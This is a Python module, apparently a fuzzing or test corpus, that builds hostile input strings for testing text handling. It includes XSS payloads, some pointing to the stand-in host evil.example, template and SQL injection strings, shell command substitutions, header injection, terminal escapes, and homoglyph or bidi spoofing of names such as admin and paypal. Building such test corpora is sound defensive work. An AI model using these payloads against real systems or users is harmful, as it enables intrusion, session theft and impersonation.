"""Strings that try to be more than text: markup, addresses, templates, steering signs, look-alikes."""

from __future__ import annotations

PAYLOADS = ["alert(1)", "document.location='//evil.example'", "fetch('/me')", "import('//evil.example/x.js')"]
MARKUP = [
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" autofocus onfocus="{}" x="',
    "' onmouseover='{}' x='",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    '<a href="javascript:{}">x</a>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<math><mtext></mtext><mglyph><script>{}</script>",
    "<style>*{{background:url('javascript:{}')}}</style>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
]
OTHERS = [
    "{{7*7}}",
    "{% raw %}{{ csrf }}{% endraw %}",
    "{{ config.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "%s%s%s%n",
    "%00",
    "..\\..\\etc",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=csrf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<button formaction=//evil.example>",
    "<input type=hidden name=csrf value=x>",
    "<plaintext>",
    "<xmp>",
    "--><b>",
    "'; DROP TABLE people; --",
    "' OR 1=1 --",
    "\\'; exit 1; #",
    "$(touch x)",
    "`touch x`",
    "=1+1",
    "@SUM(1)",
    "\x00null",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31mred",
    "\x1b]8;;http://evil.example\x07x",
    "one\r\nSet-Cookie: a=b",
    "one\ntwo",
    "tab\there",
    "line\u2028separator",
    "paragraph\u2029separator",
    "right\u202eleft",
    "\u202dforced",
    "\u2066isolate",
    "\u2067isolate\u2069",
    "\u200eleft mark",
    "\u200fright mark",
    "\u061carabic mark",
    "zero\u200bwidth",
    "\ufeffmark",
    "soft\u00adhyphen",
    "word\u2060joiner",
    "tag\U000e0041\U000e0042",
    "\u0410da",
    "\u0391da",
    "\uff41\uff44\uff41",
    "\U0001d400\U0001d41d\U0001d41a",
    "p\u0430ypal",
    "admin\u0000",
    "Ada\u3164",
    "\u115f\u1160",
    "\u2800",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    "\ud800 lone",
    "\U0010ffff",
    "\ue000 private",
    "👩\u200d🚀 pilot",
    "🏳\ufe0f\u200d🌈",
    "العربية",
    "עברית",
    "日本語",
    "ไทย",
    "हिन्दी",
]

TURNERS = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c"]
UNSEEN = [
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\u180e",
    "\u3164",
    "\U000e0020",
]
# Letters of other scripts, or of the same one in disguise, that look like a Latin one.
ALIKE = str.maketrans(
    "aceiopxyAEOT", "\u0430\u0441\u0435\u0456\u043e\u0440\u0445\u0443\u0410\u0415\u041e\u0422"
)
WIDE = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
NAMES = ["Ada", "admin", "paypal", "moderator", "Computer, easy", "House"]
EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onbegin",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
]
TAGS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "input autofocus",
    "animate",
    "math",
    "marquee",
    "x tabindex=1",
]


WHOLE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"]
BRACKETS = [
    "&lt;", "&#60;", "&#x3c;", "%3C", "\\u003c", "\\x3c", "\uff1c", "\u2039", "\u00ab", "<\x00", "< ",
    "<\u200b",
]  # fmt: skip


def _variants() -> list[str]:
    """Make more of the same: disguises of names, broken markup, escapes inside escapes."""
    made = [turner + name for turner in TURNERS for name in NAMES]
    made += [name[:2] + turner + name[2:] + "\u202c\u2069" for turner in TURNERS for name in NAMES]
    made += [name[:2] + sign + name[2:] for sign in UNSEEN for name in NAMES]
    made += [name.translate(table) for table in (ALIKE, WIDE) for name in NAMES]
    made += [f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS]
    made += [f"<{tag}/{event}=alert`1`//" for tag in TAGS for event in EVENTS[:3]]
    made += [text.replace("<", other) for text in WHOLE for other in BRACKETS]
    made += [
        f"{quote}{event}=alert(1) x={quote}"
        for quote in ("'", '"', "`", "\u2019", "&quot;", "&#39;")
        for event in EVENTS
    ]
    return made


# Those written by hand, one of each kind, for what takes long with every string.
WRITTEN = [form.format(payload) for form in MARKUP for payload in PAYLOADS] + OTHERS
CORPUS = WRITTEN + _variants()
STEERING = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad\u2028\u2029"
    "\x00\x07\x08\x1b\x7f\x9b\x9d\x85"
)
